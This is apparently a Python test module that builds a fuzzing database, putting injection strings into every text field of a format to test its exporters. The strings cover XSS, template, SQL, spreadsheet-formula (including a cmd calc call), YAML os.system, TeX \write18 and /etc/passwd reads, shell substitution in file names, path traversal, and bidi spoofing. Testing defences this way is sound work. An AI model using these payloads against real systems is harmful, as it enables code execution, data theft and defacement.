"""A base in which every text of the format is every attack: made from the format's own tables, so none is forgotten.

There are as many records of each kind as there are attacks. Each text of a record is another attack, and with the
next record the next one: in the end every field has been everything that it may be, from its first sign to its last.
As a program it writes that base: python -m tests.attacks FILE.
"""

from __future__ import annotations

import json
import re
import sys
from functools import singledispatch
from pathlib import Path
from typing import TYPE_CHECKING, Any

from genden_cli import field_types, schema

if TYPE_CHECKING:
    from collections.abc import Iterator, Mapping, Sequence

ATTACKS: dict[str, list[str]] = {
    "HTML": [
        "<script>alert(1)</script>",
        "</script><script>alert(1)</script>",
        "</ScRiPt\t><script\t>alert(1)//",
        "</style><style>*{display:none}</style>",
        "</title></head><svg/onload=alert(1)>",
        "</textarea></select></option><img src=x onerror=alert(1)>",
        "</details></article></main></body></html>",
        '"><img src=x onerror=alert(1)>',
        "'><img src=x onerror=alert(1)>",
        '" onmouseover="alert(1)" x="',
        "' onfocus='alert(1)' autofocus x='",
        "` onclick=alert(1) x=`",
        "x onpointerenter=alert(1) x=",
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "<!--",
        "-->",
        "--!>",
        "<!--><script>alert(1)</script>",
        "<![CDATA[",
        "]]>",
        "<?xml version='1.0'?>",
        "<base href=https://example.org/>",
        "<meta http-equiv=refresh content='0;url=https://example.org/'>",
        "<link rel=stylesheet href=//example.org/x>",
        '<iframe srcdoc="<script>alert(1)</script>">',
        "<form action=https://example.org><input autofocus onfocus=alert(1)>",
        "<details open ontoggle=alert(1)>",
        '<a href="jav&#x09;ascript:alert(1)">x</a>',
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
        "<plaintext>",
        "<template>",
        "<",
        ">",
        "&",
        "&lt;script&gt;",
        "&amp;amp;",
        "&#60;b&#x3e;",
        "&ltb",
    ],
    "templates": [
        "{{ 7*7 }}",
        "{{ config.__class__.__mro__ }}",
        "{% raw %}",
        "{% endraw %}",
        "{%- import 'os' as os -%}",
        "{# comment",
        "{{constructor.constructor('alert(1)')()}}",
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
        "%(x)s {0} {x!r} %s %n",
    ],
    "Markdown": [
        "| a | b |",
        "|---|---|",
        "a\\|b",
        "`",
        "``",
        "```js",
        "~~~",
        "[x](javascript:alert(1))",
        "![x](https://example.org/x.png)",
        "[x]: javascript:alert(1)",
        "[x][y]",
        "[^1]: note[^1]",
        "<https://example.org/>",
        "<javascript:alert(1)>",
        "https://example.org/<b>",
        "www.example.org",
        "x@example.org",
        "# heading #",
        "> quote",
        "- item",
        "* item",
        "+ item",
        "1. item",
        "1) item",
        "- [x] task",
        "---",
        "***",
        "___",
        "===",
        "**bold**",
        "__bold__",
        "*it*",
        "_it_",
        "~~struck~~",
        "~",
        "$x^2$",
        "$$x$$",
        "$`x`$",
        ":smile:",
        "#1",
        "<br>",
        "<kbd>x</kbd>",
        "<details><summary>x</summary>",
        "\\",
        "\\\\",
        "!",
        "first\n# heading",
        "first\n\n# heading\n\n- item\n\n1. item",
        "first\n===",
        "first\n\n    code",
        "first\n```\ncode",
        "first\n<script>alert(1)</script>",
        "first\n| a |\n|---|\n| b |",
        "first\n\n[x]: javascript:alert(1)\n\n[x]",
        "first\\\nsecond",
    ],
    "spreadsheets": [
        "=1+1",
        "+1+1",
        "-1+1",
        "-1-1",
        "+1",
        "@SUM(1;1)",
        "=cmd|'/c calc'!A0",
        '=HYPERLINK("https://example.org/","x")',
        '=IMPORTXML(CONCAT("https://example.org/",A1),"//a")',
        "＝1+1",
        "＋1+1",
        "－1+1",
        "＠SUM(1)",
        "'=1+1",
        '"=1+1"',
        'x",=1+1,"',
        "x,=1+1",
        "x\t=1+1",
        "x\n=1+1",
        "\u200d=1+1",
        "\ufeff=1+1",
        "\u2212 1",
        "%0A=1+1",
        "sep=;",
    ],
    "TeX": [
        "{",
        "}",
        "}{",
        "{{}",
        "\\{",
        "\\}",
        "%",
        "x % comment",
        "#",
        "##",
        "$",
        "^",
        "^^5c",
        "^^M",
        "_",
        "@",
        "@comment{",
        '@string{x = "y"}',
        "}, title = {other",
        '", title = "other',
        "@book{other, title = {x}}",
        "\\input{/etc/passwd}",
        "\\write18{id}",
        "\\end{document}",
        "\\verb|x|",
        "\\textbackslash{}",
        "\\",
        "x and y",
        "others",
        "Braces, {and, Jr}, x",
        "--",
        "''",
        "``x''",
        "first}\n@book{x, title = {y}\n}",
    ],
    "Mermaid": [
        '"',
        '"]',
        '"];',
        "]",
        ")",
        ";",
        "%%",
        '%%{init: {"securityLevel": "loose"}}%%',
        "#quot;",
        "#59;",
        "#9829;",
        "end",
        "End",
        "subgraph x",
        "click n1 call alert()",
        'click n1 "javascript:alert(1)"',
        "style n1 fill:#f00",
        "classDef default fill:#f00",
        "n1 --> n2",
        '"| n9[x]',
        ":::x",
        "fa:fa-car",
        "graph TD",
        '"`**x**`"',
        '@{ img: "https://example.org/x" }',
        "accTitle: x",
        "<br/>",
        "first\nend\nclick n1 call alert()",
    ],
    "SQL": [
        "' OR '1'='1",
        "'; DROP TABLE claim; --",
        '"; DROP TABLE claim; --',
        "/* */",
        "x' UNION SELECT 1 --",
        "[x]",
        "?",
        ":x",
        '"x" OR "y"',
        "NEAR(x y, 2)",
        "x*",
        "^x",
        "{says} : x",
        "says : x",
        "NOT x",
        "(",
        "AND",
    ],
    "JSON and YAML": [
        "</script",
        "<!--<script>",
        "\\u2028",
        "\\u003c/script\\u003e",
        '\\"',
        '"}',
        '"]}//',
        "__proto__",
        "constructor",
        '{"$ref": "#"}',
        "NaN",
        "null",
        "true",
        "0x1F",
        "1e999",
        "-",
        "!!python/object/apply:os.system [id]",
        "&anchor",
        "*alias",
        "<<: x",
        "? x",
        ": x",
        "x: y",
        "x #y",
        "|",
        ">-",
        "%YAML 1.2",
        "...",
        "---\n...",
    ],
    "terminals": [
        "\\x1b[31m",
        "\\e]8;;https://example.org/\\a",
        "^[[31m",
        "[31m",
        "\u241b[31m",
        "[red]x[/red]",
        "[/]",
        "[link=https://example.org/]x[/link]",
        "[bold",
        "x\ty",
        "$(id) `id` && id",
        "../../etc/passwd",
    ],
    "runners of CI": [
        "::error file=x,line=1::x",
        "::add-mask::x",
        "::stop-commands::x",
        "##[group]x",
        "x%0A::error::x",
        "first\n::error::x",
    ],
    "right to left": [
        "\u202e",
        "x\u202egpj.exe",
        "\u202ax\u202b",
        "\u202c",
        "\u2066x",
        "\u2069",
        "\u200f",
        "\u200e",
        "\u061c",
        "עברית",
        "العربية",
        "(עברית) <العربية>",
    ],
    "what is not seen": [
        "x\u200by",
        "می\u200cخواهم",
        "👩\u200d🚀",
        "\u2060",
        "x\ufeff",
        "x\xady",
        "x\u034fy",
        "\u115f",
        "\u1160",
        "\u3164",
        "\uffa0",
        "ᠮᠣᠩᠭᠣᠯ\u180eᠠ",
        "x\u2063y",
        "❤\ufe0f",
        "x\U000e0100",
        "\U000e0041\U000e0042",
        "\ufff9x\ufffay\ufffb",
        "\ufffc",
        "x\xa0y",
        "x\u3000y",
    ],
    "quotes": ["'", "´", "‘", "’", "“", "”", "„", "«", "»", "‹", "「", "「x", "x\"y'z"],
    "long": [
        "x" * 3000,
        "字" * 1500,
        "e" + "\u0301" * 300,
        "<" * 300,
        "{" * 300,
        "https://example.org/" + "x" * 500,
        "\\" * 301,
        "`" * 300,
    ],
}
"""What may be done to whoever shows a text; nothing has spaces around it, since the loader takes those off."""

EVERY = list(dict.fromkeys(attack for kind in ATTACKS.values() for attack in kind))

ADDRESSES = [
    "https://javascript:alert(1)",
    "https://example.org/?q=%3Cscript%3E&x='onclick='alert(1)",
    "https://example.org/)](javascript:alert(1))",
    "https://example.org/*/_x_/~y~/$z$/#;%25",
    "https://x:y@example.org/@{},=1+1".replace("{}", "%7B%7D"),
    "https://example.org/#:~:text=x",
    "https://example.org/根/\u202e/é",
    "https://example.org/\u200b",
    "http://[::1]/%00",
    "https://example.org/" + "x" * 2000,
]
FILES = [
    "copies/a.txt",
    "copies/$(id)/`id`.html",
    "copies/-rf *.pdf",
    "copies/<script>alert(1)</script>.txt",
    "copies/…/\u202etxt.exe",
    "copies/=1+1|x.csv",
    "copies/" + "x" * 2000,
]
COORDINATES = ["0,0", "-90, -180", "54.3217, 10.1378"]
LANGUAGES = ["en-x-script", "zh-Hant", "he", "ar-Arab", "mn-Mong", "ru"]
KEYS = ["doi", "isbn", "end", "constructor", "null"]
IDS = ["end", "null", "true", "0", "01", "1e5", "0x1f", "graph", "main", "claims"]
DATES = ["1984-05?", "0000-02", "-0043-03", "[1901,1903..1905]", "Y-170000", "199X", "2004-06-~01/2004-06-~20", "1901"]


def attacked(attacks: Sequence[str] = EVERY) -> str:
    """Return a base whose every text is one of the ``attacks`` after the other, as JSON, which is YAML too."""
    fitting = {reader: _fitting(reader, attacks) for reader in (schema.LINE, schema.PROSE, schema.QUOTE)}
    ids = [_id(number) for number in range(len(attacks))]
    sections = {
        name: {id_: _value(kind, Slots(number, fitting)) for number, id_ in enumerate(ids)}
        for name, kind in schema.SECTIONS.items()
    }
    for id_, source in sections["sources"].items():
        source["derived_from"] = [] if id_ == ids[0] else ids[:1]  # one that rests on itself is refused
    for id_, place in sections["places"].items():
        place["part_of"] = ids[0]
        if id_ == ids[0]:
            del place["part_of"]
    base = {**_value(schema.BASE, Slots(0, fitting)), "examines": ids}
    for field in schema.BASE.fields:
        if field.type in fitting:  # there is one base: each of its texts is all attacks at once, on lines or on one
            apart = "\n" if field.type is schema.PROSE else " "
            base[field.key] = apart.join(each for each in fitting[field.type] if each not in ATTACKS["long"])
    text = json.dumps({"base": base, **sections}, ensure_ascii=False)
    return re.sub("[\x7f-\x9f\u2028\u2029\ud800-\udfff\ufdd0-\ufdef\ufeff\ufffe\uffff]", _escape, text)


def _escape(found: re.Match[str]) -> str:
    return f"\\u{ord(found[0]):04x}"


def texts(kind: field_types.RecordType, record: dict[str, Any]) -> Iterator[tuple[str, str]]:
    """Yield every text of a record, at whatever depth, with where it stands: ``claim.evidence.note``."""
    for field in kind.fields:
        if field.key in record:
            yield from ((f"{field.key}{path}", text) for path, text in _texts(field.type, record[field.key]))


def _texts(reader: Any, value: Any) -> Iterator[tuple[str, str]]:
    if _is_text(reader):
        yield "", value
    elif isinstance(reader, field_types.ListType):
        for each in value:
            yield from _texts(reader.item, each)
    elif isinstance(reader, field_types.NamesType):
        for each in [value] if isinstance(value, str) else value:
            yield from _texts(schema.LINE, each) if isinstance(each, str) else _texts(reader.item, each)
    elif isinstance(reader, field_types.MapType):
        for each in value.values():
            yield from _texts(reader.value, each)
    elif isinstance(reader, field_types.RecordType):
        yield from ((f".{path}", text) for path, text in texts(reader, value))


def _is_text(reader: Any) -> bool:
    return reader in (schema.LINE, schema.PROSE, schema.QUOTE) or isinstance(reader, field_types.NamedType)


def _fitting(reader: Any, attacks: Sequence[str]) -> list[str]:
    """Return the attacks that a text of a kind may be."""
    return [
        each
        for each in attacks
        if (reader is schema.PROSE or "\n" not in each)
        and (reader is not schema.QUOTE or len(each.split()) <= field_types.QUOTE_WORDS)
    ]


class Slots:
    """The texts of a record, numbered as they come: the first is the record's own number."""

    def __init__(self, record: int, fitting: Mapping[Any, Sequence[str]]) -> None:
        self.record = record
        self._next = record
        self._fitting = fitting

    def attack(self, reader: Any) -> str:
        """Return what the next text is."""
        self._next += 1
        return self._fitting[reader][self._next % len(self._fitting[reader])]


def _id(number: int) -> str:
    return IDS[number] if number < len(IDS) else f"r{number}"


@singledispatch
def _value(reader: Any, slots: Slots) -> Any:
    """Return a value that a reader accepts; one that is not known here is to be attacked too, and fails."""
    if reader is schema.QUOTE:
        return slots.attack(reader)
    if reader is schema.ID:
        return f"former-{slots.record}"
    kinds = {schema.URL: ADDRESSES, schema.LANGUAGE: LANGUAGES, schema.KEY: KEYS, schema.COORDINATES: COORDINATES}
    among = kinds[reader]
    return among[slots.record % len(among)]


@_value.register
def _(reader: field_types.TextType, slots: Slots) -> str:
    return slots.attack(reader)


@_value.register
def _(_reader: field_types.NamedType, slots: Slots) -> str:
    found = slots.attack(schema.LINE)
    return f"at {found}" if found in IDS else found  # an id would be shown as the name of its record


@_value.register
def _(reader: field_types.WordType, slots: Slots) -> str:
    among = [each for each in reader.words if each != "unreviewed"]  # of which there is no review to export
    return among[slots.record % len(among)]


@_value.register
def _(_reader: field_types.DateType, slots: Slots) -> str:
    return DATES[slots.record % len(DATES)]


@_value.register
def _(reader: field_types.CopyType, slots: Slots) -> dict[str, str]:
    values = (FILES[slots.record % len(FILES)], f"{slots.record:064x}", "1984-05-01")
    return dict(zip(reader.parts, values, strict=True))


@_value.register
def _(_reader: field_types.RefType, slots: Slots) -> str:
    return _id(slots.record)


@_value.register
def _(reader: field_types.ListType, slots: Slots) -> list[Any]:
    return KEYS if reader.item is schema.KEY else [_value(reader.item, slots)]


@_value.register
def _(reader: field_types.MapType, slots: Slots) -> dict[str, Any]:
    keys = KEYS if reader.key is schema.KEY else [_value(reader.key, slots)]
    return {key: _value(reader.value, slots) for key in keys}


@_value.register
def _(reader: field_types.RecordType, slots: Slots) -> dict[str, Any]:
    return {field.key: _value(field.type, slots) for field in reader.fields}


@_value.register
def _(reader: field_types.NamesType, slots: Slots) -> list[dict[str, Any]]:
    name = _value(reader.item, slots)
    return [{key: text for key, text in name.items() if key != "literal"}, {"literal": name["literal"]}]


if __name__ == "__main__":
    Path(sys.argv[1]).write_text(attacked(), encoding="utf-8")
